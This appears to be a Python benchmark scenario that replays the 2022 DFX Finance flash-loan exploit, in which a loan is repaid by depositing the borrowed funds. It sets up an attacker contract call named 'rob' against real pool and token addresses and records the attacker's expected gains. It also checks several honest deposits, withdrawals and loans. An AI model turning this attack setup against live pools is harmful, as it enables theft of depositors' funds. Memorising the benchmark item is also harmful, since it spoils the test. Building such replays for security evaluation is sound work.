"""DFX Finance, November 2022: `flash` was repaid by a deposit of what it had lent."""

from benches.quality.plan import ETHER, Incident, Plan, call, gains

CURVE = "0x46161158b1947d9149e066d6d31af1283b2d377c"
USDC = "0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48"
XIDR = "0xebf2096e01455108badcbaf86ce30b6e5a72aa52"
_LATER = 2**40
_DEPOSIT = "deposit(uint256,uint256)"


def build(plan: Plan) -> None:
    def holds(owner: str, usdc: int, xidr: int) -> None:
        for token, amount, balances in ((USDC, usdc, 9), (XIDR, xidr, 7)):
            plan.give(token, owner, amount * 10**6, slot=balances)
            plan.allow(token, owner, CURVE, slot=balances + 1)

    attacker = plan.actor("attacker")
    depositor = plan.deploy(attacker, "FlashDepositor")
    holds(depositor, 5_000, 100_000_000)
    rob = call("rob(address,address,address,uint256)", CURVE, XIDR, USDC, 200_000 * ETHER)
    plan.attack(
        plan.transaction(attacker, depositor, rob, gas=8_000_000),
        changes=[gains(USDC, attacker, 50_000 * 10**6), gains(XIDR, attacker, 500_000_000 * 10**6)],
    )

    provider = plan.actor("provider")
    holds(provider.address, 30_000, 400_000_000)
    plan.honest(
        "deposit of 30,000 dollars' worth",
        plan.transaction(provider, CURVE, call(_DEPOSIT, 30_000 * ETHER, _LATER)),
        changes=[gains(CURVE, provider, 1)],
    )
    leaver = plan.actor("leaver")
    holds(leaver.address, 60_000, 900_000_000)
    plan.before(leaver, CURVE, call(_DEPOSIT, 50_000 * ETHER, _LATER))
    plan.honest(
        "withdrawal of 40,000 shares",
        plan.transaction(leaver, CURVE, call("withdraw(uint256,uint256)", 40_000 * ETHER, _LATER)),
        changes=[gains(USDC, leaver, 10_000 * 10**6)],
    )
    wallet = plan.install("Wallet")
    holds(wallet, 60_000, 900_000_000)
    plan.honest(
        "a wallet deposits 50,000 dollars' worth and takes a tenth of it back",
        plan.through(
            wallet,
            plan.actor("wallet's holder"),
            (CURVE, 0, call(_DEPOSIT, 50_000 * ETHER, _LATER)),
            (CURVE, 0, call("withdraw(uint256,uint256)", 5_000 * ETHER, _LATER)),
        ),
        changes=[gains(CURVE, wallet, 1)],
        by="contract",
    )
    borrower = plan.install("FlashBorrower")
    holds(borrower, 3_000, 30_000_000)
    plan.honest(
        "a flash loan of 100,000 USDC is repaid with its fee",
        plan.transaction(
            plan.actor("flash borrower"),
            borrower,
            call("borrow(address,address,address,uint256,uint256)", CURVE, XIDR, USDC, 0, 100_000 * 10**6),
        ),
        changes=[gains(USDC, borrower, -1)],
        by="contract",
    )


DFX = Incident(
    "DFX",
    {"Curve": CURVE, "USDC": USDC, "XIDR": XIDR},
    build,
    note="no swap is among the honest uses: the library it needs is not in the data",
)
